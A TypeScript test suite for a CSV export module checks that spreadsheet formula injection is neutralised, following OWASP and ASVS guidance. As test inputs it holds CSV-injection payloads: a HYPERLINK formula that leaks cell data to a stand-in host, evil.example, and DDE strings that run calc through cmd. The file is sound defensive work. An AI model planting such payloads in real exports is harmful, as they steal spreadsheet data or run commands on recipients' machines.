import { parse } from 'csv-parse/sync';
import { CSV_EOL, csvCell, csvRow, isFormulaLike, neutralizeFormula } from './csv';

/** Reads CSV back the way a strict RFC 4180 consumer would. */
const readBack = (csv: string): string[][] => parse(csv, { relax_quotes: false, record_delimiter: '\r\n' }) as string[][];

describe('csvCell: formula neutralisation (ASVS 5.0 §1.2.10, OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"click")', `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`],
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-2', `"'-2"`],
    ['-2+3+cmd|\' /C calc\'!A0', `"'-2+3+cmd|' /C calc'!A0"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['=cmd|\' /C calc\'!A0', `"'=cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\tplain', `"'\tplain"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['\u0000=1+1', `"'\u0000=1+1"`],
    ['   =1+1', `"'   =1+1"`], // importers that trim leading spaces would evaluate it
    ['\u00a0=1+1', `"'\u00a0=1+1"`], // non-breaking space
    ['\u3000@x', `"'\u3000@x"`], // ideographic space
    ['＝1+1', `"'＝1+1"`], // full-width equals
    ['＋1', `"'＋1"`],
    ['－1', `"'－1"`],
    ['＠SUM(1)', `"'＠SUM(1)"`],
  ])('%j → %s', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each([
    ['hello', '"hello"'],
    ['a=b', '"a=b"'],
    ['1-2', '"1-2"'],
    ['e-mail@example.com', '"e-mail@example.com"'],
    ["'already quoted", `"'already quoted"`],
    ['', '""'],
    ['   ', '"   "'],
    ['12', '"12"'],
  ])('leaves ordinary text %j alone (apart from quoting)', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('the neutralised text reads back with the quote prefix and nothing else changed', () => {
    const nasty = '=HYPERLINK("http://x/?"&A1,"a,b")\r\nline2';
    const [[cell]] = readBack(csvRow([nasty]));
    expect(cell).toBe(`'${nasty}`);
  });
});

describe('csvCell: typed values', () => {
  it('writes finite numbers as bare data, negative ones included (a number cannot carry a formula)', () => {
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell(3.25)).toBe('3.25');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(-0)).toBe('0');
    expect(csvCell(1e21)).toBe('1e+21');
    expect(csvCell(-12n)).toBe('-12');
  });

  it('writes the string "-2" as neutralised text, unlike the number -2', () => {
    expect(csvCell('-2')).toBe(`"'-2"`);
  });

  it('writes non-finite numbers as text', () => {
    expect(csvCell(Number.NaN)).toBe('"NaN"');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('"Infinity"');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe(`"'-Infinity"`);
  });

  it('writes booleans bare, null/undefined as an empty unquoted field', () => {
    expect(csvCell(true)).toBe('true');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes dates as ISO text and refuses invalid ones', () => {
    expect(csvCell(new Date('2025-01-02T03:04:05Z'))).toBe('"2025-01-02T03:04:05.000Z"');
    expect(() => csvCell(new Date('nope'))).toThrow(RangeError);
  });

  it('writes objects and arrays as their JSON text (quoted, neutralised)', () => {
    expect(csvCell({ a: 1, b: 'x,"y"' })).toBe('"{""a"":1,""b"":""x,\\""y\\""""}"');
    expect(csvCell(['=1', 2])).toBe('"[""=1"",2]"');
    // JSON text of a string starts with a double quote, so it cannot start a formula.
    expect(csvCell({ toJSON: () => '=evil()' })).toBe('"""=evil()"""');
    expect(csvCell({ toJSON: () => undefined })).toBe('');
  });

  it('refuses functions and symbols', () => {
    expect(() => csvCell(() => 1)).toThrow(TypeError);
    expect(() => csvCell(Symbol('s'))).toThrow(TypeError);
  });
});

describe('csvCell: RFC 4180 quoting', () => {
  it('doubles embedded quotes and keeps separators and line breaks inside the field', () => {
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"'); // ; is the separator in many spreadsheet locales
    expect(csvCell('line1\r\nline2')).toBe('"line1\r\nline2"');
  });
});

describe('csvRow', () => {
  it('joins cells with commas and ends with CRLF', () => {
    expect(csvRow(['id', 'label', 'score'])).toBe(`"id","label","score"${CSV_EOL}`);
    expect(csvRow([1, 'cat', -0.5, null, true])).toBe(`1,"cat",-0.5,,true${CSV_EOL}`);
  });

  it('never writes a record that looks like a blank line', () => {
    expect(csvRow([null])).toBe(`""${CSV_EOL}`);
    expect(csvRow([''])).toBe(`""${CSV_EOL}`);
    expect(csvRow([null, null])).toBe(`,${CSV_EOL}`);
  });

  it('round-trips through a strict CSV parser, including hostile values', () => {
    const rows: unknown[][] = [
      ['id', 'text', 'n'],
      ['a1', 'plain', 1],
      ['a2', 'comma, "quote" and\nnewline', -2],
      ['a3', '=HYPERLINK("http://evil/")', 3],
      ['a4', '@SUM(1,2)', 4],
      ['a5', 'ünïcødé ☕ 🐈', 5],
    ];
    const parsed = readBack(rows.map(csvRow).join(''));
    expect(parsed).toEqual([
      ['id', 'text', 'n'],
      ['a1', 'plain', '1'],
      ['a2', 'comma, "quote" and\nnewline', '-2'],
      ['a3', `'=HYPERLINK("http://evil/")`, '3'],
      ['a4', "'@SUM(1,2)", '4'],
      ['a5', 'ünïcødé ☕ 🐈', '5'],
    ]);
    // No cell of the parsed output begins with a formula trigger.
    for (const row of parsed) for (const cell of row.filter((c) => typeof c === 'string' && !/^-?\d/.test(c))) expect(isFormulaLike(cell)).toBe(false);
  });
});

describe('neutralizeFormula / isFormulaLike', () => {
  it('is idempotent', () => {
    expect(neutralizeFormula(neutralizeFormula('=1+1'))).toBe("'=1+1");
    expect(isFormulaLike("'=1+1")).toBe(false);
  });
});
